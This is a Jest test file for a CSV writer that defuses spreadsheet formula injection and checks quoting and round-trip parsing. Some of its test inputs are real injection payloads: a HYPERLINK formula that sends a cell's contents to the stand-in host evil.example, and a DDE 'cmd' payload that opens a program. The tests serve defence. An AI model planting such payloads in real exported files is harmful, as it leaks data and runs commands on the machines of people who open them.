import { describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { csvCell, csvDocument, csvLine } from './csv.js';

describe('csv writer', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"klik")', `"'=HYPERLINK(""http://evil.example/?""&A1,""klik"")"`],
    ['+62 21 555', "'+62 21 555"],
    ['-2+3+cmd|\' /C calc\'!A0', "'-2+3+cmd|' /C calc'!A0"],
    ['@SUM(1+1)', "'@SUM(1+1)"],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
    ['\uFF1D1+1', "'\uFF1D1+1"],
  ])('neutralises a formula cell %j', (cell, written) => {
    expect(csvCell(cell)).toBe(written);
    // A reader gets the text back with the apostrophe in front: shown as text, never run.
    expect(parse(csvLine([cell]))[0][0]).toBe(`'${cell}`);
  });

  it('leaves numbers, ordinary text, empty cells and inner formula characters alone', () => {
    expect(csvLine([-1.5, 0, 42, 'paket', 'Desa Setiadarma', 'a=b', 'x-y', null, undefined, true])).toBe('-1.5,0,42,paket,Desa Setiadarma,a=b,x-y,,,true');
    expect(csvLine(['12,5', 'Bekasi; Jawa Barat', ' sela'])).toBe('"12,5","Bekasi; Jawa Barat"," sela"');
  });

  it('quotes what must be quoted, and reads back cell for cell', () => {
    const rows = [
      [3, 'Berat', 'is not a number: "12,5 kg"'],
      [4, 'Nama Anak', 'line\nbreak'],
    ];
    const text = csvDocument(['row', 'field', 'reason'], rows);
    expect(text.split('\n')[0]).toBe('row,field,reason');
    expect(parse(text, { columns: true })).toEqual([
      { row: '3', field: 'Berat', reason: 'is not a number: "12,5 kg"' },
      { row: '4', field: 'Nama Anak', reason: 'line\nbreak' },
    ]);
  });
});
